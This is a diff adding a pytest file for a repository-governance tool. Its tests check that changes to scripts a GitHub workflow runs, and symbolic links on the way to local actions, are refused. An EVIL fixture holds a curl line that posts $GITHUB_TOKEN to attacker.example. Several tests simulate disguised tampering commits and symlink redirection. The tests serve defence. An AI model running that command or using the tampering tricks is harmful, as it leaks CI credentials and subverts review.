@@ -1,0 +1,294 @@
+"""What a governed workflow runs beyond what GitHub resolves for it: the files its `run:` steps name, and
+symbolic links on the way to, or inside, what it runs. Real repositories adopted by `governance init`,
+the check, the audit and a real `git push` into a bare repository with the hook."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from governance.gate.audit import run_audit
+from governance.gate.check import run_check
+from governance.i18n import reset_language
+from tests.gate.test_hook import _push, with_server
+from tests.gate.test_local_actions import (
+    ACTION,
+    STEALS,
+    TODAY,
+    WORKFLOW,
+    _check,
+    _init,
+    _propose,
+    _workflow,
+    adopted,
+)
+from tests.testing.gitrepo import GitRepo
+from tests.testing.governed import Governed
+from tests.testing.sshkeys import Keys
+
+__all__ = ["adopted"]  # the fixture, used by name
+
+RUNS = """name: publish
+on:
+  push:
+    branches: [main]
+permissions:
+  contents: write
+jobs:
+  publish:
+    runs-on: ubuntu-24.04
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
+      - name: Publish
+        run: |
+          echo "publishing"
+          {command}
+"""
+SCRIPT = "#!/bin/sh\necho publish\n"
+EVIL = '#!/bin/sh\ncurl -d "$GITHUB_TOKEN" https://attacker.example/\n'
+
+
+def _runs(adopted: Governed, command: str, files: dict[str, str], ident: str = "BD-2026-201") -> None:
+    """Main runs `command` in an approved workflow, the files it names committed beside it."""
+    _propose(adopted, "runs", ident, {WORKFLOW: RUNS.format(command=command), **files}, approve=(WORKFLOW,))
+    adopted.merge("runs")
+
+
+def _run_refusal(path: str, named: str, line: int = 13) -> str:
+    return (
+        f"{path}: {WORKFLOW}:{line} runs {named} in a `run:` step, and it is not governed, so this change alters "
+        f"what the workflow runs without a decision; add {named} to governed_paths in governance.yml (with its "
+        "resolution), then propose this change with its own"
+    )
+
+
+@pytest.mark.parametrize(
+    ("command", "path"),
+    [
+        ("./scripts/publish.sh", "scripts/publish.sh"),
+        ("bash tools/x.sh --fast", "tools/x.sh"),
+        ("python3 build.py", "build.py"),
+        ("make publish", "Makefile"),
+        ("npm ci && npm run publish", "package.json"),
+    ],
+)
+def test_a_change_to_a_file_a_workflow_runs_is_refused_by_the_check_and_the_audit(
+    adopted: Governed, command: str, path: str
+) -> None:
+    _runs(adopted, command, {path: SCRIPT})
+    adopted.branch("faster")
+    adopted.repo.write(path, EVIL)
+    adopted.repo.commit("Speed up publishing")
+
+    report = run_check(adopted.path, "main", "faster", today=TODAY)
+    audit = run_audit(adopted.path, "faster", today=TODAY, works=False)
+
+    assert report.violations == [_run_refusal(path, path)]
+    assert [c.subject for c in audit.bad_commits] == ["Speed up publishing"]
+    assert audit.bad_commits[0].violations == [_run_refusal(path, path)]
+
+
+def test_a_change_beside_an_approved_one_is_refused_too(adopted: Governed) -> None:
+    """The commit also changes a governed file with its decision, so the judge reads it in full: the
+    script it changes beside that is still refused."""
+    _runs(adopted, "./scripts/publish.sh", {"scripts/publish.sh": SCRIPT})
+    _propose(
+        adopted,
+        "both",
+        "BD-2026-202",
+        {"CODEOWNERS": "* @board\n", "scripts/publish.sh": EVIL},
+        approve=("CODEOWNERS",),
+    )
+
+    code, output = _check(adopted, "both")
+    audit = run_audit(adopted.path, "both", today=TODAY, works=False)
+
+    assert code == 1, output
+    assert "scripts/publish.sh: " in output and f"{WORKFLOW}:13 runs scripts/publish.sh" in output
+    assert audit.bad_commits[0].violations == [_run_refusal("scripts/publish.sh", "scripts/publish.sh")]
+
+
+def test_a_governed_script_changes_with_its_decision(adopted: Governed) -> None:
+    config = (adopted.path / "governance.yml").read_text(encoding="utf-8")
+    governing = config + "governed_paths:\n  - mkdocs.yml\n  - site/*\n  - scripts/*\n"
+    _propose(
+        adopted, "govern", "BD-2026-203", {"governance.yml": governing}, approve=(), amend=("governance.yml",)
+    )
+    adopted.merge("govern")
+    _runs(adopted, "./scripts/publish.sh", {"scripts/publish.sh": SCRIPT}, ident="BD-2026-204")
+    _propose(
+        adopted,
+        "faster",
+        "BD-2026-205",
+        {"scripts/publish.sh": EVIL},
+        approve=(),
+        amend=("scripts/publish.sh",),
+    )
+
+    code, output = _check(adopted, "faster")
+
+    assert code == 0, output
+
+
+def test_the_rule_applies_from_the_commit_whose_rules_turn_it_on(
+    tmp_path: Path, keys: Keys, seed_text: str
+) -> None:
+    """A repository adopted before the rule (no `judge_run_steps` in governance.yml) audits as it did: its
+    history holds changes no decision can cover now. Its board turns the rule on; from then on a change
+    to the script is refused, and the changes before stay as they were judged."""
+    repo = GitRepo.init(tmp_path / "policies")
+    repo.write("regulations/bribery-prevention.md", seed_text)
+    repo.commit("Regulations")
+    _init(repo, keys)
+    config = (repo.path / "governance.yml").read_text(encoding="utf-8")
+    repo.write("governance.yml", config.replace("judge_run_steps: true\n", ""))
+    repo.commit("Adopt regulation governance")
+    gov = Governed(repo, keys)
+    _runs(gov, "./scripts/publish.sh", {"scripts/publish.sh": SCRIPT})
+    repo.write("scripts/publish.sh", SCRIPT + "echo again\n")
+    repo.commit("Publish twice, before the rule")
+    _propose(gov, "on", "BD-2026-206", {"governance.yml": config}, approve=(), amend=("governance.yml",))
+    gov.merge("on")
+    repo.write("scripts/publish.sh", EVIL)
+    repo.commit("Speed up publishing")
+
+    audit = run_audit(repo.path, "main", today=TODAY, works=False)
+
+    assert [c.subject for c in audit.bad_commits] == ["Speed up publishing"]
+
+
+def test_the_hook_refuses_a_push_changing_only_a_script_a_workflow_runs(
+    adopted: Governed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    _runs(adopted, "bash scripts/publish.sh", {"scripts/publish.sh": SCRIPT})
+    with_server(adopted, tmp_path / "server.git")
+    monkeypatch.setenv("GOVERNANCE_TODAY", "2026-12-01")
+    adopted.repo.write("README.md", "Our policies\n")
+    adopted.repo.commit("Say what this repository is")
+    adopted.repo.write("scripts/publish.sh", EVIL)
+    steals = adopted.repo.commit("Speed up publishing")
+
+    refused = _push(adopted, "main")
+
+    assert refused.returncode != 0, refused.stderr
+    assert (
+        f"refs/heads/main: commit {steals[:12]} (Speed up publishing): "
+        f"{_run_refusal('scripts/publish.sh', 'scripts/publish.sh')}" in " ".join(refused.stderr.split())
+    ), refused.stderr
+    assert "(Say what this repository is)" not in refused.stderr
+
+
+def test_a_refused_script_change_is_said_in_japanese(
+    adopted: Governed, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    _runs(adopted, "./scripts/publish.sh", {"scripts/publish.sh": SCRIPT})
+    adopted.branch("faster")
+    adopted.repo.write("scripts/publish.sh", EVIL)
+    adopted.repo.commit("Speed up publishing")
+    monkeypatch.setenv("LANG", "ja_JP.UTF-8")
+    for name in ("LANGUAGE", "LC_ALL", "LC_MESSAGES"):
+        monkeypatch.delenv(name, raising=False)
+    reset_language()
+    try:
+        code, output = _check(adopted, "faster")
+    finally:
+        monkeypatch.undo()
+        reset_language()
+
+    assert code == 1, output
+    assert (
+        f"scripts/publish.sh: {WORKFLOW}:13 は `run:` ステップで scripts/publish.sh を実行しますが" in output
+    ), output
+
+
+# Symbolic links on the way to, or inside, what a workflow runs.
+
+
+def _governing(adopted: Governed, pattern: str, workflow: str, ident: str) -> None:
+    """Main governs `pattern` and runs `workflow`, both by one decision."""
+    config = (adopted.path / "governance.yml").read_text(encoding="utf-8")
+    governing = config + f"governed_paths:\n  - mkdocs.yml\n  - site/*\n  - {pattern}\n"
+    files = {"governance.yml": governing, WORKFLOW: workflow}
+    _propose(adopted, "govern", ident, files, approve=(WORKFLOW,), amend=("governance.yml",))
+    adopted.merge("govern")
+
+
+def _link_on_path(link: str, uses: str = "./tools/deploy") -> str:
+    return (
+        f"{link}: a symbolic link on the path of the local action {uses} that {WORKFLOW}:13 runs: the runner "
+        "follows it, to files no decision covers; put the folder itself there, not a link, or name the folder "
+        "the link points to in the workflow"
+    )
+
+
+def test_a_link_above_a_governed_action_folder_not_made_yet_is_refused(
+    adopted: Governed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """tools/deploy/* is governed and the workflow runs ./tools/deploy, which nobody has made yet; a pull
+    request making `tools` a link to an ungoverned folder changes no governed file, and the runner would
+    run vendor/deploy/action.yml. The check, the audit and the hook refuse it, naming the link."""
+    _governing(adopted, "tools/deploy/*", _workflow("./tools/deploy"), "BD-2026-210")
+    with_server(adopted, tmp_path / "server.git")
+    monkeypatch.setenv("GOVERNANCE_TODAY", "2026-12-01")
+    adopted.branch("vendor")
+    adopted.repo.write("vendor/deploy/action.yml", STEALS)
+    (adopted.path / "tools").symlink_to("vendor")
+    adopted.repo.commit("Vendor the deploy tools")
+
+    report = run_check(adopted.path, "main", "vendor", today=TODAY)
+    audit = run_audit(adopted.path, "vendor", today=TODAY, works=False)
+    adopted.merge("vendor")
+    refused = _push(adopted, "main")
+
+    assert report.violations == [_link_on_path("tools")]
+    assert [c.subject for c in audit.bad_commits] == ["Vendor the deploy tools"]
+    assert audit.bad_commits[0].violations == [_link_on_path("tools")]
+    assert refused.returncode != 0, refused.stderr
+    assert _link_on_path("tools") in " ".join(refused.stderr.split()), refused.stderr
+
+
+def test_a_link_on_the_path_of_an_action_under_github_is_refused(adopted: Governed) -> None:
+    """A link under .github/ is a governed file, refused as one (a decision approves a plain file only);
+    the check also names it as a link on the action's path."""
+    action = "./.github/actions/deploy"
+    _propose(adopted, "workflow", "BD-2026-211", {WORKFLOW: _workflow(action)}, approve=(WORKFLOW,))
+    adopted.merge("workflow")
+    adopted.branch("vendor")
+    adopted.repo.write("vendor/deploy/action.yml", STEALS)
+    (adopted.path / ".github" / "actions").symlink_to("../vendor")
+    adopted.repo.commit("Vendor the deploy tools")
+
+    report = run_check(adopted.path, "main", "vendor", today=TODAY)
+
+    assert _link_on_path(".github/actions", action) in report.violations
+    assert [v.reasons for v in report.verdicts] == [
+        (".github/actions is a symbolic link; a governed file must be a plain file",)
+    ]
+
+
+def test_an_adoption_with_a_link_inside_an_action_folder_is_refused(
+    tmp_path: Path, keys: Keys, seed_text: str
+) -> None:
+    """A link inside the folder of an action a workflow runs: whatever it points to runs, and its changes
+    would need no decision. Such a link cannot arrive with a decision (a governed file must be a plain
+    file), so it comes with the adoption, where the audit refuses it."""
+    repo = GitRepo.init(tmp_path / "policies")
+    repo.write("regulations/bribery-prevention.md", seed_text)
+    repo.write(WORKFLOW, _workflow("./.github/actions/deploy"))
+    repo.write(".github/actions/deploy/action.yml", ACTION.replace("echo deploying", "./run.sh"))
+    repo.write("scripts/run.sh", SCRIPT)
+    (repo.path / ".github/actions/deploy/run.sh").symlink_to("../../../scripts/run.sh")
+    repo.commit("Regulations and the deploy workflow")
+    _init(repo, keys)
+    adoption = repo.commit("Adopt regulation governance")
+
+    report = run_audit(repo.path, "HEAD", today=TODAY, works=False)
+
+    assert [c.commit for c in report.bad_commits] == [adoption]
+    assert report.bad_commits[0].violations == [
+        f".github/actions/deploy/run.sh: a symbolic link inside the folder .github/actions/deploy of the local "
+        f"action ./.github/actions/deploy that {WORKFLOW}:13 runs: a decision approves the link, never the files "
+        "it points to, so their later changes would change what the workflow runs without one; put a copy of "
+        "the file there instead of the link"
+    ]
